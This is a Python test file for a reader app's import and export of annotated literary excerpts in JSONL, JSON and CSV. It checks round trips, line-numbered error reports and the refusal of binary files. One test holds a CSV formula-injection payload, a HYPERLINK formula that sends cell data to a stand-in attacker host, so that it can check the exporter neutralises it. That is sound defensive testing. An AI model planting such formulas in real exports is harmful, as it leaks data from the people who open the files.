"""Examples files: JSONL, JSON and CSV round trips, and bad rows reported by line."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from reader_app.config.resources import resource_path
from reader_app.core.errors import ReaderError
from reader_app.core.examples import Example, read_jsonl
from reader_app.core.examples_io import (
    ExamplesFileError,
    format_emotions,
    parse_emotions,
    read_examples,
    write_examples,
)

if TYPE_CHECKING:
    from pathlib import Path

TRICKY = Example(
    excerpt='He said, "No."\nThen <b>left</b>; quietly, & for good.',
    tone="Curt, Final",
    emotions=(("anger", 0.35), ("sadness", 0.1)),
    explanation='Short words; a comma, a quote " and a semicolon.',
    source="Somebody, “A Book”",
    tags=("dialogue", "endings"),
    speaker="Mrs. Bennet",
    addressee="her husband, Mr. Bennet",
)


@pytest.fixture
def seed() -> list[Example]:
    path = resource_path("examples/seed.jsonl")
    assert path is not None
    examples, problems = read_jsonl(path)
    assert problems == []
    assert len(examples) >= 45  # the five Wordsworth pairs and the curated library
    return examples


@pytest.mark.parametrize("suffix", [".jsonl", ".json", ".csv"])
def test_round_trip(tmp_path: Path, seed: list[Example], suffix: str) -> None:
    examples = [*seed, TRICKY, Example("Plain.", "Neutral")]
    path = tmp_path / f"examples{suffix}"
    write_examples(path, examples)
    report = read_examples(path)
    assert report.problems == []
    assert report.examples == examples


def test_jsonl_is_one_example_to_dict_object_per_line(tmp_path: Path, seed: list[Example]) -> None:
    path = tmp_path / "out.jsonl"
    write_examples(path, seed)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(seed)
    assert json.loads(lines[0])["tone"] == "Scornful and Disapproving"
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_csv_header_cells_and_bom(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_examples(path, [TRICKY])
    data = path.read_bytes()
    # A BOM, so that Excel reads the file as UTF-8.
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.startswith("excerpt,tone,emotions,explanation,tags,source,speaker,addressee\r\n")
    assert "anger:0.35;sadness:0.1" in text
    assert "dialogue;endings" in text


def test_write_is_atomic_and_leaves_no_temp_file(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    path.write_text("old\n", encoding="utf-8")
    write_examples(path, [TRICKY])
    assert [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]
    with pytest.raises(ExamplesFileError, match="Cannot write"):
        write_examples(tmp_path / "missing" / "out.csv", [TRICKY])


def test_csv_multiline_quoted_excerpts_keep_line_numbers(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text(
        "excerpt,tone,emotions,explanation,tags\n"  # line 1
        '"First line,\nsecond line\nthird line",Calm,joy:0.6;trust:0.4,,a;b\n'  # lines 2-4
        ",Empty excerpt,,,\n"  # line 5: bad
        '"One\nmore",Warm,,"Because\nof ""this""",\n'  # lines 6-8
        "Last,,,,\n",  # line 9: bad (no tone)
        encoding="utf-8",
    )
    report = read_examples(path)
    assert [e.tone for e in report.examples] == ["Calm", "Warm"]
    first, second = report.examples
    assert first.excerpt == "First line,\nsecond line\nthird line"
    assert first.emotions == (("joy", 0.6), ("trust", 0.4))
    assert first.tags == ("a", "b")
    assert second.explanation == 'Because\nof "this"'
    assert report.problems == [
        "line 5: “excerpt” is missing or empty",
        "line 9: “tone” is missing or empty",
    ]


def test_csv_bad_rows_are_reported_and_good_rows_kept(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text(
        "tone,excerpt,emotions,source,notes\n"  # any column order; extra columns allowed
        "Calm,Good one,joy:60%,A Book,ignored\n"  # 2
        "Sad,Unknown emotion,happiness:0.5,,\n"  # 3
        "Sad,Too strong,sadness:1.5,,\n"  # 4
        "Sad,Not a number,sadness:lots,,\n"  # 5
        "Sad,No intensity,sadness,,\n"  # 6
        "Sad,Twice,sadness:0.2;SADNESS:0.3,,\n"  # 7
        "Sad,Unquoted, comma,sadness:0.2,,,\n"  # 8: one cell too many
        "\n"  # 9: blank, skipped
        "Warm,Also good,,,\n"  # 10
        'Odd,"stray" quote,,,\n'  # 11
        "Fine,Trailing empty cells are harmless,,,,,\n",  # 12
        encoding="utf-8",
    )
    report = read_examples(path)
    assert [e.excerpt for e in report.examples] == [
        "Good one",
        "Also good",
        "Trailing empty cells are harmless",
    ]
    assert report.examples[0].emotions == (("joy", 0.6),)
    assert report.examples[0].source == "A Book"
    assert [p.split(":")[0] for p in report.problems] == [
        "line 3",
        "line 4",
        "line 5",
        "line 6",
        "line 7",
        "line 8",
        "line 11",
    ]
    assert "unknown emotion “happiness”" in report.problems[0]
    assert "between 0 and 1" in report.problems[1]
    assert "not a number" in report.problems[2]
    assert "needs an intensity" in report.problems[3]
    assert "twice" in report.problems[4]
    assert "quotes" in report.problems[5]


def test_csv_unclosed_quote_is_reported_not_swallowed(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text('excerpt,tone\nGood,Calm\n"Never closed,Calm\nLost,Calm\n', encoding="utf-8")
    report = read_examples(path)
    assert [e.excerpt for e in report.examples] == ["Good"]
    assert report.problems == ["line 3: a quoted cell is never closed, so lines 3–4 were not read"]


def test_csv_without_required_columns_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text("text,label\nHello,Calm\n", encoding="utf-8")
    with pytest.raises(ExamplesFileError, match="excerpt and tone") as info:
        read_examples(path)
    assert "\n" not in str(info.value)
    assert isinstance(info.value, ReaderError)


def test_jsonl_bad_lines_keep_their_numbers(tmp_path: Path) -> None:
    path = tmp_path / "in.jsonl"
    lines = [
        json.dumps({"excerpt": "One", "tone": "Calm"}),
        "",
        "{not json",
        json.dumps(["a", "list"]),
        json.dumps({"excerpt": "Two", "tone": "Sad", "emotions": [{"name": "gloom"}]}),
        json.dumps({"excerpt": "Three", "tone": "Sad", "emotions": 5}),
        json.dumps(
            {"excerpt": "Four", "tone": "Hot", "emotions": [{"name": "anger", "intensity": 2}]}
        ),
        json.dumps({"excerpt": "Five", "tone": "Warm", "tags": ["x"]}),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = read_examples(path)
    assert [e.excerpt for e in report.examples] == ["One", "Five"]
    assert [p.split(":")[0] for p in report.problems] == [
        "line 3",
        "line 4",
        "line 5",
        "line 6",
        "line 7",
    ]
    assert "not valid JSON" in report.problems[0]
    assert "not a JSON object" in report.problems[1]
    assert "unknown emotion" in report.problems[2]
    assert "between 0 and 1" in report.problems[4]


def test_json_array_items_report_their_line(tmp_path: Path) -> None:
    path = tmp_path / "in.json"
    path.write_text(
        '[\n  {"excerpt": "One", "tone": "Calm"},\n  {"excerpt": "", "tone": "Calm"},\n'
        '  {"excerpt": "Three", "tone": "Warm"}\n]\n',
        encoding="utf-8",
    )
    report = read_examples(path)
    assert [e.excerpt for e in report.examples] == ["One", "Three"]
    assert report.problems == ["line 3: “excerpt” is missing or empty"]


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_bom_and_crlf_are_tolerated(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"in{suffix}"
    text = (
        'excerpt,tone\r\n"A\r\nB",Calm\r\n'
        if suffix == ".csv"
        else '{"excerpt": "A\\nB", "tone": "Calm"}\r\n'
    )
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    report = read_examples(path)
    assert report.problems == []
    assert report.examples == [Example("A\nB", "Calm")]


def test_format_is_sniffed_without_a_known_extension(tmp_path: Path) -> None:
    as_json = tmp_path / "examples.txt"
    as_json.write_text('\n  {"excerpt": "A", "tone": "Calm"}\n', encoding="utf-8")
    as_csv = tmp_path / "examples.data"
    as_csv.write_text("excerpt,tone\nB,Warm\n", encoding="utf-8")
    assert read_examples(as_json).examples == [Example("A", "Calm")]
    assert read_examples(as_csv).examples == [Example("B", "Warm")]


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".json", ".txt"])
def test_empty_file_holds_nothing_and_no_problems(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"empty{suffix}"
    path.write_text("\n  \n", encoding="utf-8")
    report = read_examples(path)
    assert report.examples == []
    assert report.problems == []


def test_unreadable_and_binary_files_raise_one_line(tmp_path: Path) -> None:
    missing = tmp_path / "missing.csv"
    with pytest.raises(ExamplesFileError, match="does not exist") as info:
        read_examples(missing)
    assert "\n" not in str(info.value)
    with pytest.raises(ExamplesFileError, match="is a folder, not a file"):
        read_examples(tmp_path)  # a directory
    binary = tmp_path / "picture.csv"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    with pytest.raises(ExamplesFileError, match="binary"):
        read_examples(binary)
    zeros = tmp_path / "zeros.jsonl"
    zeros.write_bytes(b"\x00" * 64)
    with pytest.raises(ExamplesFileError, match="binary"):
        read_examples(zeros)
    latin = tmp_path / "latin1.csv"
    latin.write_bytes("excerpt,tone\nCafé,Calm\n".encode("latin-1"))
    with pytest.raises(ExamplesFileError, match="not UTF-8"):
        read_examples(latin)


def test_emotion_cells() -> None:
    assert parse_emotions("") == ()
    assert parse_emotions(" Joy : 0.6 ; trust:40% ;") == (("joy", 0.6), ("trust", 0.4))
    assert format_emotions([("joy", 0.6), ("trust", 0.4)]) == "joy:0.6;trust:0.4"
    assert parse_emotions(format_emotions([("fear", 1 / 3)])) == (("fear", 1 / 3),)
    with pytest.raises(ValueError, match="between 0 and 1"):
        parse_emotions("joy:nan")
    with pytest.raises(ValueError, match="between 0 and 1"):
        parse_emotions("joy:-0.1")


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    import csv

    from reader_app.core.exporters.readwise import defuse

    hostile = Example(
        excerpt='=HYPERLINK("http://evil.example/?"&A1,"click")',
        tone="+Scornful",
        explanation="-1 is how much he cared",
        source="@SUM(1+1)",
        tags=("-dash", "=x"),
    )
    plain = Example("'Tis the season", "Cheerful", source="'=quoted, not run")
    path = tmp_path / "out.csv"
    write_examples(path, [hostile, plain])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["excerpt"] == "'" + hostile.excerpt
    assert rows[0]["tone"] == "'+Scornful"
    assert rows[0]["explanation"] == "'-1 is how much he cared"
    assert rows[0]["source"] == "'@SUM(1+1)"
    assert rows[0]["tags"] == "-dash;=x"  # a dash before a word is no formula
    for row in rows:  # no cell starts a formula
        assert all(defuse(cell) == cell for cell in row.values())
    assert rows[1]["excerpt"] == "'Tis the season"  # not touched: no formula
    assert rows[1]["source"] == "''=quoted, not run"  # one more, taken off on import
    # Importing the export gives back the examples exactly as they were.
    assert read_examples(path).examples == [hostile, plain]
